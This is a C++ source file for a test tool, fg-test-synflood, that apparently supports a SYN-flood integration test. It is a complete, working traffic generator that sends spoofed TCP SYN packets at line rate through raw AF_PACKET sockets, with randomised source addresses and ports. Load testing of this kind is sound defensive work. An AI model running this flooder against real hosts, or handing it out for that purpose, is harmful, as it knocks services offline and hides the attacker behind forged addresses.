// fg-test-synflood (C-style C++, no Floodgate code): spoofed SYNs as fast as this machine can write them to a
// network interface (AF_PACKET, sendmmsg batches of prebuilt frames whose
// source address, port and ISN change each time, checksums updated), for the
// SYN-flood integration test. Sources are random in SRC/PLEN (never the
// interface's own subnet unless asked), so the SYN-ACKs go nowhere.
//
//   fg-test-synflood IFACE DST_MAC DST_IP DST_PORT SRC_PREFIX/PLEN SECONDS
//
// Prints one line when done: "sent N frames in S s (R pps), M refused".
// Ends by itself after SECONDS.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 58 /* Ethernet 14 + IP 20 + TCP 20 + MSS option 4 */

static uint64_t rng = 0x9E3779B97F4A7C15ull;
static uint32_t next_rand(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng >> 16);
}

static uint16_t csum(const void* p, size_t n, uint32_t acc)
{
    const uint8_t* b = static_cast<const uint8_t*>(p);
    for (size_t i = 0; i + 1 < n; i += 2) {
        acc += (uint32_t)(b[i] << 8 | b[i + 1]);
    }
    if (n & 1) {
        acc += (uint32_t)b[n - 1] << 8;
    }
    while (acc >> 16) {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    return (uint16_t)~acc;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char** argv)
{
    if (argc != 7) {
        fprintf(stderr, "usage: %s IFACE DST_MAC DST_IP DST_PORT SRC_PREFIX/PLEN SECONDS\n", argv[0]);
        return 2;
    }
    const unsigned ifindex = if_nametoindex(argv[1]);
    unsigned m[6];
    struct in_addr dst, src;
    char prefix[64];
    snprintf(prefix, sizeof(prefix), "%s", argv[5]);
    char* slash = strchr(prefix, '/');
    if (ifindex == 0 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 ||
        inet_pton(AF_INET, argv[3], &dst) != 1 || slash == NULL) {
        fprintf(stderr, "synflood: bad arguments\n");
        return 2;
    }
    *slash = 0;
    const int plen = atoi(slash + 1);
    if (inet_pton(AF_INET, prefix, &src) != 1 || plen < 8 || plen > 30) {
        fprintf(stderr, "synflood: bad source prefix\n");
        return 2;
    }
    const uint32_t base = ntohl(src.s_addr) & (0xffffffffu << (32 - plen));
    const uint32_t span = 1u << (32 - plen);
    const uint16_t dport = (uint16_t)atoi(argv[4]);
    const double secs = atof(argv[6]);

    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) {
        perror("synflood: socket");
        return 1;
    }
    int qdisc_bypass = 1; // straight to the driver: no qdisc in the way
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &qdisc_bypass, sizeof(qdisc_bypass));
    struct sockaddr_ll sll {};
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = (int)ifindex;
    sll.sll_halen = 6;
    for (int i = 0; i < 6; i++) {
        sll.sll_addr[i] = (uint8_t)m[i];
    }

    static uint8_t frames[BATCH][FRAME];
    struct iovec iov[BATCH];
    struct mmsghdr msgs[BATCH];
    memset(msgs, 0, sizeof(msgs));
    for (int i = 0; i < BATCH; i++) {
        uint8_t* f = frames[i];
        for (int k = 0; k < 6; k++) {
            f[k] = (uint8_t)m[k];
        }
        f[6] = 0x02; f[7] = 0x00; f[8] = 0x5e; f[9] = 0x00; f[10] = 0x0f; f[11] = 0x1d; // a source MAC of our own
        f[12] = 0x08; f[13] = 0x00;
        struct iphdr* ip = (struct iphdr*)(f + 14);
        ip->version = 4;
        ip->ihl = 5;
        ip->tot_len = htons(44);
        ip->frag_off = htons(IP_DF);
        ip->ttl = 64;
        ip->protocol = IPPROTO_TCP;
        ip->daddr = dst.s_addr;
        struct tcphdr* th = (struct tcphdr*)(f + 34);
        th->dest = htons(dport);
        th->doff = 6;
        th->syn = 1;
        th->window = htons(64240);
        f[54] = 2; f[55] = 4; f[56] = 0x05; f[57] = 0xb4; // MSS 1460
        iov[i].iov_base = f;
        iov[i].iov_len = FRAME;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = &sll;
        msgs[i].msg_hdr.msg_namelen = sizeof(sll);
    }

    uint64_t sent = 0, refused = 0;
    const double t0 = now_s();
    double t = t0;
    while (t - t0 < secs) {
        for (int i = 0; i < BATCH; i++) {
            uint8_t* f = frames[i];
            struct iphdr* ip = (struct iphdr*)(f + 14);
            struct tcphdr* th = (struct tcphdr*)(f + 34);
            ip->saddr = htonl(base + 1 + next_rand() % (span - 2));
            ip->id = (uint16_t)next_rand();
            ip->check = 0;
            ip->check = htons(csum(ip, 20, 0));
            th->source = htons((uint16_t)(1024 + next_rand() % 64000));
            th->seq = next_rand() << 1;
            th->check = 0;
            // Pseudo-header: source, destination, protocol, TCP length.
            uint32_t ph = 0;
            ph += ntohl(ip->saddr) >> 16;
            ph += ntohl(ip->saddr) & 0xffff;
            ph += ntohl(ip->daddr) >> 16;
            ph += ntohl(ip->daddr) & 0xffff;
            ph += IPPROTO_TCP + 24;
            th->check = htons(csum(th, 24, ph));
        }
        const int n = sendmmsg(fd, msgs, BATCH, 0);
        if (n > 0) {
            sent += (uint64_t)n;
        } else if (errno == ENOBUFS || errno == EAGAIN) {
            refused += BATCH;
        } else {
            perror("synflood: sendmmsg");
            return 1;
        }
        t = now_s();
    }
    t = now_s();
    printf("sent %llu frames in %.2f s (%.0f pps), %llu refused\n", (unsigned long long)sent, t - t0,
           (double)sent / (t - t0), (unsigned long long)refused);
    close(fd);
    return 0;
}
